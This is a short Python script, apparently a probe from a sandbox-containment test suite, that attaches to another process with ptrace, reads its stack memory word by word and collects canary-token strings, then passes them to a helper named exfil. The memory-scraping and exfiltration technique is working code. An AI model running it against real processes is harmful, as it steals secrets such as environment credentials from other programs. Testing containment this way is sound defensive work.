# ptrace another process of the same user: attach, read its stack word by word with
# PTRACE_PEEKDATA (where its environment lives), detach.
import ctypes
import os
import re
from pylib import cfg, found, exfil, did, note, processes_named, finish

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
CANARY = re.compile(rb'spc-[a-z0-9]+-[0-9a-f]{16}')

loot = set()
# The target by name; when it cannot be seen, whatever can: the parent shell (so that
# "could ptrace inside the jail" is told apart from "ptrace itself is refused").
targets = processes_named(cfg['params']['target']) or [os.getppid()]
for pid in targets:
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        note(f'attach {pid}: errno {ctypes.get_errno()}')
        continue
    did('attached')
    try:
        os.waitpid(pid, 0x40000000)  # __WALL: the tracee is not our child
        with open(f'/proc/{pid}/maps') as maps:
            regions = [l.split()[0] for l in maps if l.rstrip().endswith('[stack]')]
        for region in regions:
            start, end = (int(x, 16) for x in region.split('-'))
            words = bytearray()
            for addr in range(start, end, 8):
                ctypes.set_errno(0)
                w = libc.ptrace(PTRACE_PEEKDATA, pid, ctypes.c_void_p(addr), None)
                if w == -1 and ctypes.get_errno() != 0:
                    break
                words += (w & 0xFFFFFFFFFFFFFFFF).to_bytes(8, 'little')
            loot.update(CANARY.findall(bytes(words)))
    except OSError as e:
        note(f'{pid}: {e.strerror}')
    finally:
        libc.ptrace(PTRACE_DETACH, pid, None, None)
if loot:
    data = b'\n'.join(sorted(loot))
    found(data)
    exfil(data)
finish()
